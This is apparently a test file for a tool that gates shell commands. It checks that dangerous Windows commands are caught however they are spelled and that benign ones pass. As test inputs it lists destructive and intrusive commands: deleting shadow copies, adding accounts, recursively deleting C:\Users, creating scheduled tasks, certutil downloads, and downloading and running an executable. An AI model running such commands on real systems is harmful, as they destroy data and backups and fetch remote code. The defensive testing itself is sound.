// Are programs of Windows understood however people spell them: in any case, with dashes, with Git Bash's doubled slashes?
import { describe, expect, it } from 'vitest'
import { anyCase } from '../../src/core/meaning/options.ts'
import type { MatchSource } from '../../src/core/rules/source.ts'
import { buildGate } from '../built-gate.ts'

const { sources, check } = await buildGate()
const rules = (command: string): readonly string[] => check(command).decision.findings.map(({ rule }) => rule)

describe('one command, many spellings', () => {
  it.each([
    ['vssadmin delete shadows /all', ['VSSADMIN.EXE DELETE SHADOWS /ALL', 'vssadmin Delete Shadows //all'], 'windows.shadow-copies'],
    ['net user eve pw /add', ['net.exe User eve pw /Add', 'NET USER EVE PW //add'], 'windows.account'],
    ['taskkill /f /im node.exe', ['taskkill //F //IM node.exe', 'TASKKILL -F -IM node.exe'], 'windows.kill'],
    ['cmd /c "rd /s /q C:\\Users"', ['cmd //c "rd /s /q C:\\Users"', 'CMD.EXE /C "RD /S /Q C:\\Users"'], 'floor.delete-home'],
    ['schtasks /create /tn a /tr b', ['schtasks //Create //tn a //tr b', 'SCHTASKS -create -tn a -tr b'], 'windows.scheduled-task'],
    ['bcdedit /set x y', ['bcdedit -set x y', 'BCDEDIT.exe /SET x y'], 'windows.boot'],
    ['certutil -urlcache -f https://a.example/x x', ['certutil /URLCACHE /f https://a.example/x x'], 'windows-security.download'],
    ['wmic process call create calc', ['WMIC.exe PROCESS CALL CREATE calc'], 'windows.management'],
  ])('%s', (plain, others, rule) => {
    const found = rules(plain)
    expect(found).toContain(rule)
    for (const other of others) expect(rules(other), other).toContain(rule)
  })

  it.each(['taskkill //PID 1234 //F', 'cmd //c dir', 'SC QUERY', 'Reg.exe Query HKCU\\Software\\X', 'SCHTASKS /Query', 'powershell -Version', 'BCDEDIT -enum'])(
    '%s is nobody’s business',
    (command) => expect(check(command).decision.verdict).toBe('allow'),
  )

  it('asks for help only where -h stands alone', () => {
    expect(rules('regsvr32 -path x.dll')).toContain('windows-security.run-by-proxy')
    expect(rules('shred -h')).toEqual([])
  })
})

describe('files just written', () => {
  it('are what Windows runs by their bare name', () => {
    expect(rules('curl -o a.exe https://a.example/a.exe && a.exe')).toContain('remote-code.run-saved')
    expect(rules('curl -o a.exe https://a.example/a.exe && b.exe')).toEqual([])
  })
})

/** Every `run` in a match with the words and values that go with it. */
function* runsIn(match: unknown): Generator<MatchSource> {
  if (typeof match !== 'object' || match === null) return
  if ('run' in match) yield match as MatchSource
  for (const part of Object.values(match)) yield* runsIn(part)
}
const many = (value: unknown): readonly string[] => (value === undefined ? [] : [value].flat().map(String))

describe('rules about programs of Windows', () => {
  it.each(sources.packs.map((pack) => [pack.pack, pack] as const))('%s writes their words in small letters', (_name, pack) => {
    const wrong = pack.rules.flatMap((rule) =>
      [...runsIn({ match: rule.match, unless: rule.unless, raise: rule.raise })].flatMap((match) => {
        const patterns = many(match.run)
        const programs = patterns.map((pattern) => sources.meaning.programs[pattern.split(' ')[0] ?? ''])
        if (!programs.every((program) => program !== undefined && anyCase(program))) return []
        const { any, all, none, first, last } = match.operands ?? {}
        const words = [...patterns, ...[any, all, none, first, last].flatMap(many), ...Object.values(match.options?.is ?? {}).flatMap(many)]
        return words.filter((word) => word !== word.toLowerCase()).map((word) => `${rule.id}: ${word}`)
      }),
    )
    expect(wrong).toEqual([])
  })
})
